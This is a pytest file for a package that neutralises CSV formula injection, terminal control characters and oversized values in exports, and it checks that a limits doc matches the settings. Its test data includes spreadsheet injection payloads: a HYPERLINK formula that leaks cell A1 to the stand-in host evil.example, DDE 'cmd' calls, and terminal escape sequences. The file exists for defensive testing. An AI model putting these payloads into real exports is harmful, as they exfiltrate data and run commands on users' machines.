"""``exportgate.safe``: values made inert for spreadsheets, terminals and error messages; and the limits
table in the docs matches ``exportgate.settings.LIMITS``."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from exportgate.safe import csv_cell, shown, terminal_text
from exportgate.settings import LIMITS

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(("value", "expected"), [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Bank Melli Iran", "Bank Melli Iran"),
    ("A=B", "A=B"),
    ("", ""),
    ("-3", "-3"),
    ("+1.5e3", "+1.5e3"),
    ("-0.25", "-0.25"),
])
def test_csv_cell_neutralises_formulas_as_owasp_recommends(value: str, expected: str) -> None:
    assert csv_cell(value) == expected


@pytest.mark.parametrize("value", [None, 0, -3, 0.5, -1.5, True])
def test_csv_cell_leaves_non_text_alone(value: object) -> None:
    assert csv_cell(value) is value


def test_a_neutralised_row_reads_back_as_text() -> None:
    out = io.StringIO()
    csv.writer(out).writerow([csv_cell(v) for v in ["=1+1", "ok", -2, "-2"]])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "ok", "-2", "-2"]


def test_terminal_text_shows_control_characters_instead_of_obeying_them() -> None:
    assert terminal_text("Bank Melli") == "Bank Melli"
    assert terminal_text("Бank\tMelli\nIran") == "Бank\tMelli\nIran"
    assert terminal_text("A\x1b[2JB\rC\x08D\x7f\x9b") == "A\\x1b[2JB\\rC\\x08D\\x7f\\x9b"
    assert terminal_text("abc\u202edef\u2066") == "abc\\u202edef\\u2066"


def test_shown_is_bounded_and_never_a_whole_document() -> None:
    assert shown("x" * 10_000).endswith("…") and len(shown("x" * 10_000)) == 60
    assert shown({"a": [1] * 10_000}) == "a mapping of 1 key"
    assert shown([[1]] * 3) == "a list of 3 entries"
    assert shown(b"\x00" * 9) == "9 bytes"
    assert shown("NO") == "'NO'"


def test_every_limit_is_documented_with_its_variable_and_default() -> None:
    text = (ROOT / "docs" / "usage" / "limits.md").read_text(encoding="utf-8")
    rows = {line.split("|")[3].strip(" `"): line for line in text.splitlines()
            if line.startswith("| ") and "`EXPORTGATE_" in line}
    assert set(rows) == {lim.env for lim in LIMITS}
    for lim in LIMITS:
        assert f"{lim.default:,}" in rows[lim.env] or str(lim.default) in rows[lim.env], lim.env
        if lim.flag:
            assert lim.flag.split()[-1] in rows[lim.env], lim.env
